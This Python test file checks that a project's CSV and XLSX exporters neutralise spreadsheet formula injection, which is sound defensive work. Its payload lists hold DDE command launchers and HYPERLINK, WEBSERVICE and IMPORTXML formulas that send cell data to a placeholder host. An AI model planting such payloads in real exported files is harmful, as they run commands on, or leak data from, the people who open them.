"""No text becomes a formula in a file that we write, whatever it begins with.

Each trigger stands behind each thing that a spreadsheet passes over, before each body; what
was written is read back by openpyxl and by the csv module.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from itertools import islice, product

from openpyxl import Workbook, load_workbook

from tests.unit.exports.tables import names_table
from vlms.exports.csv import write_csv
from vlms.exports.xlsx import write_xlsx

SHORT = 600
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
BEFORE = ("", " ", "\u00a0", "\u3000", "\u200b", "\ufeff", "\u2060", "  ", "'", '"', "\0", "\x0b")
BODIES = (
    "1+1",
    "cmd|'/c calc'!A0",
    'HYPERLINK("http://x.example/?"&A1,"click")',
    "SUM(A1:A9)",
    'WEBSERVICE("http://x.example")',
    'DDE("cmd";"/c calc")',
    'IMPORTXML(CONCAT("http://x.example/",A1),"//a")',
    "_xlfn.X()",
    "$A$1",
    "{1}",
    "1",
    "",
)
AFTER = ("", "\r\n=1", ",=1", ";=1", "\t=1", '","=1', "\n=1")
STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
_PASSED_OVER = " \u00a0\u3000\u200b\u2060\ufeff"


def payloads() -> Iterator[str]:
    """All of them: 11 triggers, 12 beginnings, 12 bodies, 7 ends."""
    for after, body, before, trigger in product(AFTER, BODIES, BEFORE, TRIGGERS):
        yield f"{before}{trigger}{body}{after}"


def formulas_in_book(texts: list[str]) -> int:
    """How many of the written cells are formulas when they are read back."""
    out = io.BytesIO()
    write_xlsx(names_table(texts), out)
    out.seek(0)
    book = load_workbook(out)
    return sum(cell.data_type == "f" for sheet in book.worksheets for row in sheet for cell in row)


def triggers_in_csv(texts: list[str]) -> list[str]:
    """The fields that a spreadsheet would calculate; every row has one field."""
    out = io.BytesIO()
    write_csv(names_table(texts), out)
    rows = list(csv.reader(io.StringIO(out.getvalue().decode("utf-8-sig"), newline="")))
    assert len(rows) == len(texts) + 1
    assert {len(row) for row in rows} == {1}
    return [row[0] for row in rows if row[0].lstrip(_PASSED_OVER).startswith(STARTS)]


def test_no_text_becomes_a_formula() -> None:
    every = list(payloads())
    texts = every[:: len(every) // SHORT]
    assert formulas_in_book(texts) == 0
    assert triggers_in_csv(texts) == []


def test_a_naive_writer_makes_formulas_of_them() -> None:
    """The control."""
    book = Workbook()
    for text in islice((one for one in payloads() if one.isprintable()), 50):
        book.active.append([text])
    assert any(cell.data_type == "f" for row in book.active for cell in row)
